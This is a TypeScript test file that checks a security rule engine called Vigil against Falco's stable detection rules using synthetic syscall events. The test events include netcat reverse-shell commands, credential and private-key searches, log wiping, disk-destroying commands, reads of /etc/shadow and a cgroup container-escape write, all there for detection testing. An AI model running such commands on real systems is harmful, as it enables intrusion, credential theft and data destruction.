// SPDX-License-Identifier: Apache-2.0
/**
 * "Detect at least what Falco detects": for every Falco stable rule whose technique a Vigil pack
 * also covers, events that Falco's own rule matches (read in place from ../shared) must also match
 * the Vigil rule. Both rule sets are loaded together, as a user who keeps Falco's rules would, and
 * evaluated with `all` matching; each case first checks that Falco's rule really fires on it.
 */
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { SyscallEvent } from "../../rules/event.js";
import { loadRuleFiles } from "../../rules/index.js";
import { packFiles } from "../helpers/packs.js";
import { container, ev, execve, O, openat, proc, sockFd } from "../rules/event-builder.js";
import { STABLE_RULES } from "../rules/stable-path.js";

const files = [{ path: STABLE_RULES, text: readFileSync(STABLE_RULES, "utf8") }, ...packFiles()];
const loaded = loadRuleFiles(files, { ruleMatching: "all" });
const ctr = container({ id: "0123456789ab", imageRepository: "docker.io/library/app", k8s: { namespace: "prod", podName: "app-1" } });
const priv = container({ id: "0123456789cd", imageRepository: "docker.io/library/tools", privileged: true });
const CAP_DAC_OVERRIDE = 1n << 1n;
const CAP_SYS_MODULE = 1n << 16n;
const CAP_SYS_ADMIN = 1n << 21n;

const sh = (args: string[], extra = {}) => proc({ comm: "sh", exe: "sh", exepath: "/bin/sh", args, container: ctr, ...extra });

/** [Falco rule, Vigil rule, event] */
const CASES: [string, string, () => SyscallEvent][] = [
  [
    "Drop and execute new binary in container",
    "Drift Executable Not In Image Run",
    () => execve(proc({ comm: "payload", exe: "/app/payload", exepath: "/app/payload", exeUpperLayer: true, container: ctr })),
  ],
  [
    "Fileless execution via memfd_create",
    "Drift Fileless Execution Via Memfd",
    () => execve(proc({ comm: "3", exe: "/proc/self/fd/3", exepath: "memfd:payload", exeFromMemfd: true, container: ctr })),
  ],
  [
    "Execution from /dev/shm",
    "Drift Execution From Shared Memory",
    () => execve(proc({ comm: "x", exe: "/dev/shm/x", exepath: "/dev/shm/x", container: ctr })),
  ],
  ["Execution from /dev/shm", "Drift Execution From Shared Memory", () => execve(sh(["-c", "/dev/shm/x.sh"]))],
  [
    "Execution from /dev/shm",
    "Drift Execution From Shared Memory",
    () => execve(proc({ comm: "x", exe: "./x", exepath: "/dev/shm/w/x", cwd: "/dev/shm/w/", container: ctr })),
  ],
  [
    "Redirect STDOUT/STDIN to Network Connection in Container",
    "Reverse Shell Socket Redirected To Standard Streams",
    () =>
      ev({
        type: "dup2",
        res: 1,
        args: { oldfd: 3, newfd: 1 },
        proc: proc({ comm: "python3", container: ctr }),
        fd: sockFd("10.0.0.5", 40000, "1.2.3.4", 4444),
      }),
  ],
  [
    "Netcat Remote Code Execution in Container",
    "Netcat Command Execution",
    () => execve(proc({ comm: "nc", args: ["1.2.3.4", "4444", "-e", "/bin/sh"], container: ctr })),
  ],
  [
    "Netcat Remote Code Execution in Container",
    "Netcat Command Execution",
    () => execve(proc({ comm: "ncat", args: ["--sh-exec", "/bin/sh", "1.2.3.4", "4444"], container: ctr })),
  ],
  [
    "Search Private Keys or Passwords",
    "Search For Private Keys Or Passwords",
    () => execve(proc({ comm: "grep", args: ["-r", "BEGIN RSA PRIVATE", "/"], container: ctr })),
  ],
  [
    "Search Private Keys or Passwords",
    "Search For Private Keys Or Passwords",
    () => execve(proc({ comm: "find", args: ["/", "-name", "id_ed25519"], container: ctr })),
  ],
  ["Find AWS Credentials", "Search For Cloud Credentials", () => execve(proc({ comm: "grep", args: ["-ri", "aws_secret_access_key", "/home"] }))],
  ["Find AWS Credentials", "Search For Cloud Credentials", () => execve(proc({ comm: "find", args: ["/", "-path", "*.aws/credentials"] }))],
  ["Clear Log Activities", "Log Files Cleared", () => openat("/var/log/auth.log", O.WRONLY | O.TRUNC, proc({ comm: "sh", container: ctr }))],
  ["Clear Log Activities", "Log Files Cleared", () => openat("/srv/app/access_log", O.WRONLY | O.TRUNC, proc({ comm: "python3" }))],
  ["Remove Bulk Data from Disk", "Data Destruction Tool Run", () => execve(proc({ comm: "shred", args: ["-u", "/data/db"] }))],
  ["Remove Bulk Data from Disk", "Data Destruction Tool Run", () => execve(proc({ comm: "mke2fs", args: ["/dev/sdb1"] }))],
  [
    "Create Symlink Over Sensitive Files",
    "Symlink To Sensitive File Created",
    () => ev({ type: "symlinkat", res: 0, args: { target: "/etc/shadow", linkdirfd: -100, linkpath: "/tmp/s" }, proc: proc({ comm: "ln" }) }),
  ],
  [
    "Create Symlink Over Sensitive Files",
    "Symlink To Sensitive File Created",
    () => ev({ type: "symlink", res: 0, args: { target: "/root", linkpath: "/var/www/r" }, proc: proc({ comm: "ln" }) }),
  ],
  [
    "Create Hardlink Over Sensitive Files",
    "Hardlink To Sensitive File Created",
    () => ev({ type: "linkat", res: 0, args: { olddir: -100, oldpath: "/etc/shadow", newdir: -100, newpath: "/tmp/h", flags: 0 }, proc: proc({ comm: "ln" }) }),
  ],
  [
    "Packet socket created in container",
    "Packet Socket Opened",
    () => ev({ type: "socket", res: 3, args: { domain: 17, type: 3, proto: 0 }, proc: proc({ comm: "python3", container: ctr }) }),
  ],
  [
    "Linux Kernel Module Injection Detected",
    "Kernel Module Loaded",
    () => ev({ type: "init_module", res: 0, args: { length: 10 }, proc: proc({ comm: "insmod", container: ctr, capEffective: CAP_SYS_MODULE }) }),
  ],
  ["Debugfs Launched in Privileged Container", "Debugfs Run In Container", () => execve(proc({ comm: "debugfs", args: ["/dev/sda1"], container: priv }))],
  [
    "Detect release_agent File Container Escapes",
    "Cgroup Release Agent Written",
    () => openat("/tmp/cg/release_agent", O.WRONLY, proc({ comm: "sh", container: priv, capEffective: CAP_SYS_ADMIN | CAP_DAC_OVERRIDE })),
  ],
  [
    "PTRACE attached to process",
    "Ptrace Attach Or Code Injection",
    () => ev({ type: "ptrace", res: 0, args: { request: 16, pid: 42 }, proc: proc({ comm: "inject" }) }),
  ],
  [
    "PTRACE attached to process",
    "Ptrace Attach Or Code Injection",
    () => ev({ type: "ptrace", res: 0, args: { request: 5, pid: 42 }, proc: proc({ comm: "inject", container: ctr }) }),
  ],
  [
    "PTRACE anti-debug attempt",
    "PTRACE Anti-Debug Attempt",
    () => ev({ type: "ptrace", res: 0, args: { request: 0, pid: 0 }, proc: proc({ comm: "malware" }) }),
  ],
  [
    "Disallowed SSH Connection Non Standard Port",
    "SSH Client On Non-Standard Port",
    () => ev({ type: "connect", res: 0, proc: proc({ comm: "ssh", exe: "/usr/bin/ssh" }), fd: sockFd("10.0.0.5", 40000, "1.2.3.4", 443) }),
  ],
  ["Run shell untrusted", "Shell Spawned By Server Process", () => execve(sh(["-c", "id"], { parents: [{ comm: "nginx", exe: "nginx", container: ctr }] }))],
  [
    "Run shell untrusted",
    "Shell Spawned By Server Process",
    () =>
      execve(
        sh(["-c", "id"], {
          parents: [
            { comm: "perl", container: ctr },
            { comm: "httpd", container: ctr },
          ],
        }),
      ),
  ],
  ["Terminal shell in container", "Terminal Shell In Container", () => execve(sh([], { tty: 34816, parents: [{ comm: "containerd-shim" }] }))],
  ["Read sensitive file untrusted", "Read Shadow File", () => openat("/etc/shadow", O.RDONLY, proc({ comm: "python3", container: ctr }))],
  ["Read sensitive file untrusted", "Read Sudoers Or PAM Configuration", () => openat("/etc/sudoers", O.RDONLY, proc({ comm: "python3", container: ctr }))],
  ["Read sensitive file untrusted", "Read Sudoers Or PAM Configuration", () => openat("/etc/pam.d/common-auth", O.RDONLY, proc({ comm: "cat" }))],
];

describe("Vigil rules detect at least what the Falco stable rules they overlap detect", () => {
  it("both rule sets load together", () => {
    expect(loaded.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
  });

  it.each(CASES.map(([f, v, mk], i) => [i, f, v, mk] as const))("#%i %s → %s", (_i, falcoRule, vigilRule, mk) => {
    const fired: string[] = [];
    loaded.ruleset.evaluate(mk(), (r) => void fired.push(r.name));
    expect(fired, "the Falco rule must fire on this case").toContain(falcoRule);
    expect(fired).toContain(vigilRule);
  });
});
